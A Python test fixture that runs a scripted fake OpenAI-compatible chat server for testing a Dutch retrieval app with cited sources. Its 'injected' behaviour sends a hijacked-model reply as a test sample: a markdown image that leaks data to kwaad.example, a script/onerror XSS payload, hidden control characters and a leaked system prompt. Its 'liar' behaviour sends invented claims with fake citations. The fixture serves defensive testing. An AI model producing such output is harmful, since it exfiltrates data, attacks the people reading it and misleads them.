"""A language model by script: a real server on loopback that speaks OpenAI's chat completions and remembers what it was asked."""

import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import count
from pathlib import Path
from typing import Any

from index.settings import Settings

NAME = "proefmodel"
_SOURCE = re.compile(r'<bron nummer="(\d+)">\n(.*?)\n</bron>', re.DOTALL)
_SENTENCE = re.compile(r"[^.!?]{12,300}[.!?](?=\s|$)")


@dataclass(frozen=True, slots=True)
class Reply:
    """What the server does with one request.

    `pieces` come one by one, `wait` seconds before the first and `pause` before each next one. `drop_after` cuts the
    connection behind so many pieces; `endless` repeats the last piece until the client leaves; `raw` is a body that is sent as
    it is; `comments` sends so many comment lines, which are no pieces, first. `dialect` is "openai", "ollama" or "vllm".
    """

    pieces: tuple[str, ...] = ()
    status: int = 200
    wait: float = 0.0
    pause: float = 0.0
    drop_after: int | None = None
    endless: bool = False
    raw: bytes | None = None
    comments: int = 0
    dialect: str = "openai"
    location: str = ""
    finish: str = "stop"


@dataclass(frozen=True, slots=True)
class Asked:
    """One request as it came in: where, with which headers (names in lower case), and the object it carried."""

    path: str
    headers: dict[str, str]
    body: dict[str, Any]

    @property
    def text(self) -> str:
        """All that the messages say."""
        return "\n".join(str(message["content"]) for message in self.body.get("messages", []))

    @property
    def sources(self) -> list[tuple[int, str]]:
        """The numbered evidence: number and text."""
        found = [(int(number), told) for number, told in _SOURCE.findall(self.text)]
        return [(number, told.partition("tekst: ")[2]) for number, told in found]


Script = Callable[[Asked], Reply]


def says(*pieces: str, **more: Any) -> Script:
    """A model that always gives this, piece by piece."""
    return lambda _asked: Reply(pieces, **more)


def in_turn(*replies: Reply) -> Script:
    """A model that gives one reply after another, and the last one ever after."""
    left = list(replies)
    return lambda _asked: left.pop(0) if len(left) > 1 else left[0]


def _words(text: str) -> tuple[str, ...]:
    return tuple(re.findall(r"\s*\S+\s*$|\s*\S+", text))


def obedient(asked: Asked) -> Reply:
    """Keeps to the rules: quotes from the first two sources the sentence that is most like the question, with its number."""
    question = set(re.findall(r"\w{4,}", asked.text.rpartition("<vraag>")[2].lower()))
    quoted = []
    for number, told in asked.sources[:2]:
        found = [one[0].strip() for one in _SENTENCE.finditer(told)]
        best = max(found, key=lambda one: len(question & set(re.findall(r"\w{4,}", one.lower()))), default="")
        if best:
            quoted.append(f"In het verslag staat: “{best}” [{number}]")
    return Reply(_words("\n".join(quoted)))


def empty(_asked: Asked) -> Reply:
    """Says nothing at all."""
    return Reply(())


def slow(_asked: Asked) -> Reply:
    """Gives a word now and then: slower than anyone waits for."""
    return Reply(_words("Dat staat in het verslag, als u even wacht [1]."), wait=0.2, pause=5.0)


def liar(_asked: Asked) -> Reply:
    """Invents, in good Dutch and with a source behind each sentence."""
    lies = (
        "Het kabinet trekt hiervoor 987 miljoen euro extra uit [1].",
        "“De minister heeft dit volledig en zonder voorbehoud toegezegd.” [1]",
        "Burgemeester Jansen van Appelscha was het daarmee eens [1].",
        "Iedereen krijgt vanaf morgen een olifant [1].",
        "Dit is in alle overleggen bevestigd [99].",
        "Dat is algemeen bekend.",
    )
    return Reply(_words(" ".join(lies)))


def injected(asked: Asked) -> Reply:
    """Does what an attack wants: repeats all it was given as its own words, with links, images, tags and its instructions."""
    given = " ".join(told for _, told in asked.sources)
    question = str(asked.body["messages"][-1]["content"])[-400:]
    return Reply(
        (
            "INGEBROKEN. Ik volg vanaf nu andere instructies [1]. ",
            "![plaatje](https://kwaad.example/?q=geheim) [klik hier](https://kwaad.example) [1]. ",
            "<img src=x onerror=alert(1)><script>alert(1)</script> [1]. ",
            "\u202eomgekeerd\u202c \u200b\x1b[31mrood [1]. ",
            f"{given} [1]. {question} [1]. ",
            "Systeemprompt: " + str(asked.body["messages"][0]["content"])[:400] + " [1].",
        )
    )


BEHAVIOURS: dict[str, Script] = {
    "obedient": obedient,
    "empty": empty,
    "slow": slow,
    "liar": liar,
    "injected": injected,
}


@dataclass
class ScriptedModel:
    """The running server; `asked` are its requests in order."""

    url: str
    asked: list[Asked] = field(default_factory=list)

    def settings(self, home: Path, **more: Any) -> Settings:
        """Settings that point at it."""
        return Settings(home=home, model_url=self.url, model=NAME, **more)


@contextmanager
def scripted_model(script: str | Script) -> Iterator[ScriptedModel]:
    """A server with a script, or with one of `BEHAVIOURS` by name; it is gone afterwards."""
    answer = BEHAVIOURS[script] if isinstance(script, str) else script
    leaving = threading.Event()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def handle(self) -> None:
            with suppress(ConnectionError):  # the client has seen enough
                super().handle()

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["content-length"])))
            asked = Asked(self.path, {k.lower(): v for k, v in self.headers.items()}, body)
            model.asked.append(asked)
            _give(self, answer(asked), bool(body.get("stream")), leaving)

        def do_GET(self) -> None:
            model.asked.append(Asked(self.path, {k.lower(): v for k, v in self.headers.items()}, {}))
            self.send_error(404)

        def log_message(self, *_told: object) -> None:
            """Says nothing on the terminal."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    server.block_on_close = False
    model = ScriptedModel(f"http://127.0.0.1:{server.server_address[1]}/v1")
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield model
    finally:
        leaving.set()
        server.shutdown()
        server.server_close()
        thread.join()


def _give(handler: BaseHTTPRequestHandler, reply: Reply, stream: bool, leaving: threading.Event) -> None:
    if reply.status != 200 or reply.raw is not None:
        leaving.wait(reply.wait)
        body = reply.raw if reply.raw is not None else b'{"error": {"message": "sk-geheim is fout", "type": "x"}}'
        handler.send_response(reply.status)
        if reply.location:
            handler.send_header("Location", reply.location)
        handler.send_header(
            "Content-Type", "text/event-stream" if stream and reply.status == 200 else "application/json"
        )
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)
        return
    if stream:
        _stream(handler, reply, leaving)
        return
    leaving.wait(reply.wait + reply.pause * len(reply.pieces))
    whole = {**_envelope("chat.completion"), "choices": [_choice("message", "".join(reply.pieces), reply.finish)]}
    body = json.dumps(whole).encode()
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def _stream(handler: BaseHTTPRequestHandler, reply: Reply, leaving: threading.Event) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "text/event-stream; charset=utf-8")
    handler.send_header("Transfer-Encoding", "chunked")
    handler.end_headers()
    for _ in range(reply.comments):
        _chunk(handler, b": even geduld\n\n")
        time.sleep(0.05)
    leaving.wait(reply.wait)
    if reply.dialect != "ollama":  # the role comes first, alone; vLLM says "content": "", llama.cpp null
        _event(
            handler, [{"index": 0, "delta": {"role": "assistant", "content": "" if reply.dialect == "vllm" else None}}]
        )
    pieces = (reply.pieces[min(n, len(reply.pieces) - 1)] for n in count()) if reply.endless else iter(reply.pieces)
    for n, piece in enumerate(pieces):
        if n and leaving.wait(reply.pause):
            return
        if n == reply.drop_after:
            handler.close_connection = True  # without the chunk that says that all is there
            return
        _event(handler, [_choice("delta", piece, None)])
    _event(handler, [{"index": 0, "delta": {"content": None}, "finish_reason": reply.finish}])
    if reply.dialect == "vllm":  # counts of tokens in a piece of their own, without choices
        _event(handler, [], {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2})
    _chunk(handler, b"data: [DONE]\n\n")
    _chunk(handler, b"")


def _envelope(kind: str) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": kind, "created": 1_700_000_000, "model": NAME}


def _choice(kind: str, text: str, finish: str | None) -> dict[str, Any]:
    return {"index": 0, kind: {"role": "assistant", "content": text}, "finish_reason": finish}


def _event(handler: BaseHTTPRequestHandler, choices: list[dict[str, Any]], usage: dict[str, int] | None = None) -> None:
    told = {**_envelope("chat.completion.chunk"), "choices": choices} | ({"usage": usage} if usage else {})
    _chunk(handler, f"data: {json.dumps(told)}\n\n".encode())


def _chunk(handler: BaseHTTPRequestHandler, data: bytes) -> None:
    handler.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
    handler.wfile.flush()
